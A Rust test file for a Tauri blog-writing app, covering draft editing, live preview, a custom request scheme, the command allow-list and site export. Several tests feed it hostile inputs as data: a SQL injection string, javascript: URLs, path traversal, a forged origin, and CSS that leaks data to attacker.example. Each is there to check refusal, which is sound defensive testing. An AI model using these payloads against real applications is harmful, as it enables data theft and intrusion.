//! Command tests through Tauri's mock runtime, with the app's real config and capabilities: each
//! command as the page calls it, plus the allow-list refusing what the app does not grant.
mod common;

use common::{invoke, test_app, test_app_with};
use serde_json::{json, Value};

#[test]
fn a_new_library_lists_the_sample_posts() {
    let app = test_app();
    let page = invoke(&app, "list_page", json!({ "query": {} })).unwrap();
    assert_eq!(page["total"], 3);
    let posts = &page["posts"];
    let titles: Vec<&str> = posts.as_array().unwrap().iter().map(|p| p["title"].as_str().unwrap()).collect();
    assert_eq!(titles.len(), 3, "{titles:?}");
    assert!(titles.iter().any(|t| t.contains("Go")), "{titles:?}");
    assert!(posts[0]["reading_minutes"].as_i64().unwrap() >= 1);
}

#[test]
fn create_edit_and_reopen_a_draft() {
    let app = test_app();
    let post = invoke(&app, "create_post", json!({ "title": "Scheduler internals" })).unwrap();
    let id = post["id"].as_i64().unwrap();
    assert_eq!(post["title"], "Scheduler internals");
    assert_eq!(post["status"], "draft");

    let summary = invoke(&app, "save_body", json!({ "id": id, "body": "The runtime **parks** goroutines.\n" })).unwrap();
    assert_eq!(summary["words"], 4);

    let post = invoke(&app, "set_field", json!({ "id": id, "key": "tags", "value": ["go", "runtime"] })).unwrap();
    assert_eq!(post["tags"], json!(["go", "runtime"]));
    assert_eq!(post["body"], "The runtime **parks** goroutines.\n");

    let summary = invoke(&app, "set_status", json!({ "id": id, "status": "ready" })).unwrap();
    assert_eq!(summary["status"], "ready");

    let reopened = invoke(&app, "open_post", json!({ "id": id })).unwrap();
    assert_eq!(reopened["body"], "The runtime **parks** goroutines.\n");
    assert!(reopened["front_matter"].as_str().unwrap().contains("Scheduler internals"));

    let found = invoke(&app, "list_page", json!({ "query": { "text": "parks" } })).unwrap();
    assert_eq!(found["posts"].as_array().unwrap().len(), 1);
    let drafts = invoke(&app, "list_page", json!({ "query": { "status": "ready", "tag": "runtime", "sort": "title_asc" } })).unwrap();
    assert_eq!(drafts["total"], 1);
}

#[test]
fn bad_input_gives_a_clear_error() {
    let app = test_app();
    let error = invoke(&app, "open_post", json!({ "id": 999 })).unwrap_err();
    assert_eq!(error["kind"], "not_found");
    let error = invoke(&app, "set_field", json!({ "id": 1, "key": "layout", "value": ["x"] })).unwrap_err();
    assert_eq!(error["kind"], "invalid");
    let error = invoke(&app, "set_status", json!({ "id": 1, "status": "gone" })).unwrap_err();
    assert!(error["message"].as_str().unwrap().contains("unknown status"));
    let error = invoke(&app, "open_external", json!({ "url": "javascript:alert(1)" })).unwrap_err();
    assert_eq!(error["kind"], "invalid");
    // Odd search queries are just text.
    for odd in ["\"unbalanced ( title: -", "NEAR(", "*", "'; DROP TABLE posts; --", "\u{0}"] {
        let found = invoke(&app, "list_page", json!({ "query": { "text": odd } })).unwrap();
        assert!(found["posts"].is_array(), "{odd}: {found}");
    }
}

#[test]
fn the_preview_sends_only_blocks_the_page_does_not_have() {
    let app = test_app();
    let text = "# Title\n\nFirst paragraph.\n\n```go\nfunc main() {}\n```\n";
    let first = invoke(&app, "render_preview", json!({ "text": text, "version": 1, "reset": true })).unwrap();
    assert_eq!(first["total"], 3);
    assert_eq!(first["blocks"].as_array().unwrap().len(), 3);
    // Code comes plain on the keystroke path; highlighting follows from a worker.
    assert!(first["blocks"][2]["html"].as_str().unwrap().contains("func main"));

    let edited = text.replace("First paragraph.", "First paragraph, edited.");
    let second = invoke(&app, "render_preview", json!({ "text": edited, "version": 2, "reset": false })).unwrap();
    assert_eq!((second["keep_head"].as_u64(), second["keep_tail"].as_u64()), (Some(1), Some(1)), "{second}");
    let blocks = second["blocks"].as_array().unwrap();
    assert_eq!(blocks.len(), 1, "only the edited paragraph is sent: {blocks:?}");
    assert!(blocks[0]["html"].as_str().unwrap().contains("edited"));

    let reset = invoke(&app, "render_preview", json!({ "text": edited, "version": 3, "reset": true })).unwrap();
    assert_eq!(reset["blocks"].as_array().unwrap().len(), 3, "a reset sends everything again");

    // A keystroke travels as a change against version 3.
    let pos = edited.find(", edited").unwrap();
    let typed = invoke(
        &app,
        "render_preview_changes",
        json!({ "base": 3, "version": 4, "changes": [{ "from": pos, "to": pos, "insert": " and" }] }),
    )
    .unwrap();
    assert!(typed["blocks"][0]["html"].as_str().unwrap().contains("First paragraph and, edited."), "{typed}");
    // A change against a version the backend does not hold asks for the whole text.
    let stale = invoke(&app, "render_preview_changes", json!({ "base": 3, "version": 5, "changes": [] })).unwrap_err();
    assert_eq!(stale["kind"], "resync");
}

/// A request to the `galley-preview` scheme as the page's synchronous XHR sends it.
fn preview_scheme_request(method: &str, path: &str, origin: Option<&str>, body: Value) -> tauri::http::Request<Vec<u8>> {
    let mut request = tauri::http::Request::builder().method(method).uri(format!("galley-preview://localhost{path}"));
    if let Some(origin) = origin {
        request = request.header("Origin", origin);
    }
    request.body(serde_json::to_vec(&body).unwrap()).unwrap()
}

#[test]
fn the_keystroke_scheme_renders_changes_for_the_main_window_only() {
    use galley_app::preview_protocol::handle;
    use tauri::Manager;
    let app = test_app();
    let handle_ = app.window.app_handle();
    let text = "# Title\n\nFirst paragraph.\n";
    invoke(&app, "render_preview", json!({ "text": text, "version": 1, "reset": true })).unwrap();
    let pos = text.find(" paragraph").unwrap();
    let keystroke = json!({ "base": 1, "version": 2, "changes": [{ "from": pos, "to": pos, "insert": " typed" }] });

    let response = handle(handle_, "main", &preview_scheme_request("POST", "/changes", Some("tauri://localhost"), keystroke.clone()));
    assert_eq!(response.status(), 200);
    assert_eq!(response.headers()["access-control-allow-origin"], "tauri://localhost");
    let output: Value = serde_json::from_slice(response.body()).unwrap();
    assert_eq!(output["blocks"].as_array().unwrap().len(), 1, "{output}");
    assert!(output["blocks"][0]["html"].as_str().unwrap().contains("First typed paragraph."), "{output}");

    // The same change again is against a version the backend no longer holds: resync (409).
    let stale = handle(handle_, "main", &preview_scheme_request("POST", "/changes", Some("tauri://localhost"), keystroke.clone()));
    assert_eq!(stale.status(), 409);
    assert_eq!(serde_json::from_slice::<Value>(stale.body()).unwrap()["kind"], "resync");

    // Other webviews, other origins (or none), other paths and methods, junk and oversized
    // bodies are refused, and none of them changes the text the backend holds.
    let next = json!({ "base": 2, "version": 3, "changes": [{ "from": 0, "to": 0, "insert": "X" }] });
    let refusals = [
        ("preview", "POST", "/changes", Some("tauri://localhost"), next.clone(), 403),
        ("main", "POST", "/changes", Some("https://evil.example"), next.clone(), 403),
        ("main", "POST", "/changes", Some("null"), next.clone(), 403),
        ("main", "POST", "/changes", None, next.clone(), 403),
        ("main", "GET", "/changes", Some("tauri://localhost"), next.clone(), 404),
        ("main", "POST", "/../library.sqlite3", Some("tauri://localhost"), next.clone(), 404),
        ("main", "POST", "/changes", Some("tauri://localhost"), json!({ "path": "/etc/passwd" }), 400),
        (
            "main",
            "POST",
            "/changes",
            Some("tauri://localhost"),
            json!({ "base": 2, "version": 3, "changes": [{ "from": 0, "to": 0, "insert": "x".repeat(20_000) }] }),
            413,
        ),
    ];
    for (label, method, path, origin, body, status) in refusals {
        let response = handle(handle_, label, &preview_scheme_request(method, path, origin, body));
        assert_eq!(response.status(), status, "{label} {method} {path} {origin:?}");
    }
    let still = handle(handle_, "main", &preview_scheme_request("POST", "/changes", Some("tauri://localhost"), next));
    assert_eq!(still.status(), 200);
    let output: Value = serde_json::from_slice(still.body()).unwrap();
    assert!(output["blocks"][0]["html"].as_str().unwrap().contains("X# Title"), "{output}");
}

#[test]
fn commands_outside_the_allow_list_are_refused() {
    let app = test_app();
    // Core commands the main window was never granted: emitting events, closing windows.
    let error = invoke(&app, "plugin:event|emit", json!({ "event": "library-changed", "payload": null })).unwrap_err();
    assert!(error.to_string().contains("not allowed"), "{error}");
    let error = invoke(&app, "plugin:window|close", json!({ "label": "main" })).unwrap_err();
    assert!(error.to_string().contains("not allowed"), "{error}");
    // Listening to events is granted.
    assert!(invoke(&app, "plugin:event|listen", json!({ "event": "library-changed", "target": { "kind": "Any" }, "handler": 3 })).is_ok());
}

#[test]
fn the_site_stylesheet_is_made_safe_and_reloads_when_the_file_changes() {
    use tauri::Listener;
    let app = test_app_with(|library, dir| {
        let site = dir.join("site");
        std::fs::create_dir_all(site.join("static/fonts")).unwrap();
        std::fs::write(site.join("static/fonts/body.woff2"), b"wOF2-font").unwrap();
        let css = "body { color: red; }\nh2[id^=\"acq\"] { background: url(\"http://attacker.example/leak-h2\"); }\n\
                   @import url(https://attacker.example/more.css);\n@font-face { font-family: b; src: url(/fonts/body.woff2) }\n";
        std::fs::write(site.join("site.css"), css).unwrap();
        library.set_linked_site(Some(&site)).unwrap();
        library.set_setting("preview_css", Some(&site.join("site.css").to_string_lossy())).unwrap();
    });
    let site = app._dir.path().join("site");
    let first = invoke(&app, "preview_site_css", json!({})).unwrap();
    let css = first["css"].as_str().unwrap();
    assert!(css.contains("body { color: red; }"), "{css}");
    assert!(!css.contains("attacker"), "no remote reference survives: {css}");
    assert!(css.contains("data:font/woff2;base64,"), "the site's own font is inlined: {css}");
    assert_eq!(first["dropped"].as_array().unwrap().len(), 2, "{first}");

    // A change on disk is announced by the watcher (no polling), then read again.
    let (changed_tx, changed_rx) = std::sync::mpsc::channel();
    app._app.listen_any("site-css-changed", move |_| {
        let _ = changed_tx.send(());
    });
    std::fs::write(site.join("site.css"), "body { color: blue; font-size: 18px; }").unwrap();
    changed_rx.recv_timeout(std::time::Duration::from_secs(10)).expect("site-css-changed after the file changed");
    let changed = invoke(&app, "preview_site_css", json!({})).unwrap();
    assert_eq!(changed["css"], "body { color: blue; font-size: 18px; }");

    // Reading the file is not a change: no event follows a read.
    while changed_rx.try_recv().is_ok() {}
    let _ = std::fs::read(site.join("site.css")).unwrap();
    assert!(changed_rx.recv_timeout(std::time::Duration::from_millis(1200)).is_err(), "a read woke the stylesheet watcher");

    // Hostile files: a link to /dev/zero, a FIFO, a 2 GB file. Each is refused at once with words,
    // and the preview falls back to Galley's own style (no css).
    let hostile = |make: &dyn Fn(&std::path::Path)| {
        let path = site.join("site.css");
        let _ = std::fs::remove_file(&path);
        make(&path);
        let answer = invoke(&app, "preview_site_css", json!({})).unwrap();
        assert!(answer["css"].is_null(), "{answer}");
        answer["error"].as_str().unwrap().to_string()
    };
    let error = hostile(&|path| std::os::unix::fs::symlink("/dev/zero", path).unwrap());
    assert!(error.contains("not a regular file") && error.contains("Galley's own style"), "{error}");
    let error = hostile(&|path| assert!(std::process::Command::new("mkfifo").arg(path).status().unwrap().success()));
    assert!(error.contains("not a regular file"), "{error}");
    let error = hostile(&|path| std::fs::File::create(path).unwrap().set_len(2 << 30).unwrap());
    assert!(error.contains("larger than 1 MiB"), "{error}");
    let error = hostile(&|_| {});
    assert!(error.contains("No such file"), "{error}");
}

#[test]
fn site_commands_need_a_linked_folder_and_never_take_paths() {
    let app = test_app();
    let error = invoke(&app, "export_site_plan", json!({ "preset": "hugo", "status": null })).unwrap_err();
    assert!(error["message"].as_str().unwrap().contains("no site folder"), "{error}");
    let report = invoke(&app, "sync_site", json!({ "openPost": null, "body": null })).unwrap();
    assert_eq!(report["changed_posts"], json!([]));
    let error = invoke(&app, "resolve_site_conflict", json!({ "postId": 1, "resolution": "keep_mine" })).unwrap_err();
    assert_eq!(error["kind"], "invalid");
}

#[test]
fn export_plan_lists_files_for_the_linked_folder() {
    let app = test_app_with(|library, dir| {
        std::fs::create_dir_all(dir.join("site")).unwrap();
        library.set_linked_site(Some(&dir.join("site"))).unwrap();
        // The writer's own three posts: the sample posts never leave the library (issue 10).
        for (_, text) in galley::samples::SAMPLE_POSTS {
            library.create_post(text, galley::library::Status::Published).unwrap();
        }
    });
    let plan = invoke(&app, "export_site_plan", json!({ "preset": "hugo", "status": null })).unwrap();
    let items = plan["items"].as_array().unwrap();
    assert_eq!(items.len(), 3, "{plan}");
    assert!(items.iter().all(|item| item["action"] == "create" && item["path"].as_str().unwrap().starts_with("content/posts/")));
    let report = invoke(&app, "export_site", json!({ "preset": "hugo", "status": null, "force": false })).unwrap();
    assert_eq!(report["created"].as_array().unwrap().len(), 3);
    let again = invoke(&app, "export_site_plan", json!({ "preset": "hugo", "status": null })).unwrap();
    assert!(again["items"].as_array().unwrap().iter().all(|item| item["action"] == "unchanged"), "{again}");
    // A path smuggled in from the page is not an argument any command reads: the export still
    // goes to the linked folder, and nothing is written to the smuggled one.
    let elsewhere = app._dir.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    let smuggled = json!({ "preset": "hugo", "status": null, "force": true, "site": elsewhere, "to": elsewhere, "path": elsewhere });
    let report = invoke(&app, "export_site", smuggled).unwrap();
    assert!(report["site"].as_str().unwrap().ends_with("/site"), "{report}");
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0, "the smuggled folder was written");
    // A preset that is a path is refused as a preset, in words.
    let error = invoke(&app, "export_site_plan", json!({ "preset": "../../etc", "status": null })).unwrap_err();
    assert_eq!(error["kind"], "invalid");
    assert!(error["message"].as_str().unwrap().contains("preset"), "{error}");
}
